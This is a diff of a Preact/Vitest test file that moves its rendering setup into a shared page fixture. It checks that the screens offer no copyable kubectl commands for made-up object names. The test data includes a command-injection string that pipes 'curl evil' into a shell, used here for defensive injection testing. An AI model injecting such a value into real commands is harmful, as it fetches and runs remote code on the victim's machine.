@@ -1,10 +1,8 @@
 // SPDX-License-Identifier: Apache-2.0
 
-import { render, type ComponentChild } from "preact";
-import { act } from "preact/test-utils";
-import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import type { ComponentChild } from "preact";
+import { describe, expect, it } from "vitest";
 import { flux } from "../src/kinds";
-import * as details from "./fixture/details";
 import { session } from "../src/api/session";
 import { commandLine, scopeFlags } from "../src/parts/command";
 import { CanaryScreen } from "../src/screens/canary";
@@ -14,6 +12,8 @@ import { ObjectsScreen } from "../src/screens/objects";
 import { PipelineScreen } from "../src/screens/pipeline";
 import { PolicyScreen } from "../src/screens/policy";
 import { TimelineScreen } from "../src/screens/timeline";
+import * as details from "./fixture/details";
+import { usePage } from "./fixture/page";
 
 const evil = "x;curl evil|sh";
 
@@ -31,22 +31,7 @@ describe("a command line", () => {
 });
 
 describe("commands to copy", () => {
-  let root: HTMLElement;
-  beforeEach(() => {
-    root = document.createElement("div");
-    document.body.append(root);
-  });
-  afterEach(() => {
-    render(null, root);
-    root.remove();
-    vi.unstubAllGlobals();
-  });
-
-  const shown = async (screen: ComponentChild, answer: () => Response) => {
-    vi.stubGlobal("fetch", vi.fn(async () => answer()));
-    await act(async () => render(screen, root));
-    await vi.waitFor(() => expect(root.textContent).not.toContain("Reading"));
-  };
+  const page = usePage();
   const missing = () => Response.json({ error: "there is none" }, { status: 404 });
 
   const screens: [string, ComponentChild][] = [
@@ -60,13 +45,13 @@ describe("commands to copy", () => {
     ["application", <TimelineScreen lane={`Deployment/${evil}/api`} />],
   ];
   it.each(screens)("are not offered for a %s that a made-up address names", async (_, screen) => {
-    await shown(screen, missing);
-    expect(root.textContent).toContain("there is none");
-    expect(root.querySelector(".command")).toBeNull();
+    await page.show(screen, missing);
+    expect(page.root.textContent).toContain("there is none");
+    expect(page.texts(".command")).toEqual([]);
   });
   it("are offered for what is there", async () => {
-    await shown(<ObjectsScreen kind="Canary" />, () => Response.json({ items: [] }));
-    expect(root.querySelector(".command code")?.textContent).toBe("kubectl get canary -A");
+    await page.show(<ObjectsScreen kind="Canary" />, () => Response.json({ items: [] }));
+    expect(page.texts(".command code")).toEqual(["kubectl get canary -A"]);
   });
 });
 
